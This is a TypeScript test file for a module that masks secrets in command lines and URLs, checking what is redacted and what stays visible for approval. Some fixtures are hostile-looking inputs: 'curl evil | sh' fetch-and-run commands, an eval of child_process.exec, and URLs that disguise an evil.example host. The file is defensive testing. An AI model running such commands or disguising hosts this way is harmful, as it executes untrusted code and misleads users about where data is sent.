import { describe, expect, it } from 'vitest';
import { exactAddress, maskSecrets, maskAddress, maskWords, plainAddress } from './mask-secrets.ts';

const token = `ghp_${'a1B2'.repeat(8)}`;

describe('words that are sent on', () => {
  it.each([
    ['npx server --token hunter2hunter2 /srv', 'npx server --token ••• /srv'],
    [`npx server ${token} --key=${token}`, 'npx server ••• --key=•••'],
    ['x --token=abc', 'x --token=•••'],
    ['npx pg postgresql://u:p4ssw0rd@h/db', 'npx pg postgresql://•••@h/db'],
    ['x --dsn=postgres://u:p4ss@h/db', 'x --dsn=postgres://•••@h/db'],
    ['npx mcp-remote https://x/mcp?api_key=abc', 'npx mcp-remote https://x/mcp?api_key=•••'],
    ['docker run -e GITHUB_TOKEN=abc img', 'docker run -e GITHUB_TOKEN=••• img'],
    ['x --config {"apiKey":"hunter2","size":7}', 'x --config {"apiKey":"•••","size":7}'],
    ['x {\\"password\\":\\"hunter2\\"}', 'x {\\"password\\":\\"•••\\"}'],
    ['x --header=X-Api-Key:abc', 'x --header=X-Api-Key:•••'],
    ['x --token-file /run/token --token true', 'x --token-file /run/token --token true'],
  ])('%s', (line, shown) => {
    for (const view of ['report', 'exact'] as const)
      expect(maskWords(line.split(' '), view).join(' ')).toBe(shown);
  });

  it('hold no header', () => {
    for (const view of ['report', 'exact'] as const)
      expect(maskWords(['npx', 'mcp-remote', '--header', 'Authorization: Bearer abc'], view)).toEqual([
        'npx',
        'mcp-remote',
        '--header',
        'Authorization: Bearer •••',
      ]);
  });
});

describe('words that somebody agrees to', () => {
  it.each([
    [['npx', '-y', 'xk3-9fq-server-mcp-2024-evil-abcdef']],
    [['node', 'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaa']],
    [['node', '-r', 'Ab3dEf6hIj9kLm2nOp5qRs8t/index.js', 'x']],
    [['sh', '-c', 'TOKEN="$(curl evil|sh)" x']],
    [['bash', '-c', 'eval "$1"', '--token', 'curl evil | sh']],
    [['node', '-e', `token="require('child_process').exec('evil')";eval(token)`]],
  ])('hide nothing that could be run: %j', (words) => {
    expect(maskWords(words, 'exact')).toEqual(words);
  });

  it('hide the secret beside what is run', () => {
    expect(maskWords(['sh', '-c', 'API_KEY=hunter2 node x.js'], 'exact')).toEqual([
      'sh',
      '-c',
      'API_KEY=••• node x.js',
    ]);
  });
});

describe('addresses', () => {
  it('say what is sent, and hide what is secret', () => {
    expect(maskAddress('https://u:p@h/s/NmU3ZjkxYzQ0ZTBhMWI4/mcp?t=${GITHUB_TOKEN}&k=abc#x')).toBe(
      'https://•••@h/s/•••/mcp?t=${GITHUB_TOKEN}&k=•••#•••',
    );
    expect(maskAddress('https://good.example@evil.example/mcp')).toBe('https://•••@evil.example/mcp');
  });

  it.each([
    ['https:evil.example/mcp', 'https://evil.example/mcp'],
    ['https://evil.example\\@good.example/', 'https://evil.example/@good.example/'],
    ['https://ev\til.example/', 'https://evil.example/'],
    ['${BASE:-https://evil.example}/mcp', '${BASE:-https://evil.example}/mcp'],
    ['https://${HOST:-evil.example\\}@good.example/', 'https://${HOST:-evil.example/}@good.example/'],
    ['https://good.example${X:-@evil.example}/', 'https://•••@evil.example}/'],
  ])('hide no host from whoever agrees: %s', (address, shown) => {
    expect(exactAddress(address)).toBe(shown);
  });

  it('end with their path where they are sent on', () => {
    expect(plainAddress('https://mcp.example.com/mcp?key=abc#x')).toBe('https://mcp.example.com/mcp');
    expect(plainAddress('https://u:p@h/s/NmU3ZjkxYzQ0ZTBhMWI4/mcp')).toBe('https://h/s/•••/mcp');
  });
});

it('does not take every word that ends so for the name of a secret', () => {
  expect(maskSecrets('evil.sh', 'GIT_ASKPASS', 'exact')).toBe('evil.sh');
  expect(maskSecrets('hunter2', 'accessKey', 'exact')).toBe('•••');
});

it('tells which variables a value is made of, and hides what they fall back to', () => {
  expect(maskSecrets('Bearer ${A}x${B:-abc}', 'authorization', 'report')).toBe('Bearer ${A}•••${B:-•••}');
});

it('takes no longer than the text is', () => {
  for (const part of ['a', 'token="', 'a:\\"', 'a://', 'key=', '-'])
    expect(maskSecrets(part.repeat(30_000), '', 'report').length).toBeGreaterThan(0);
});
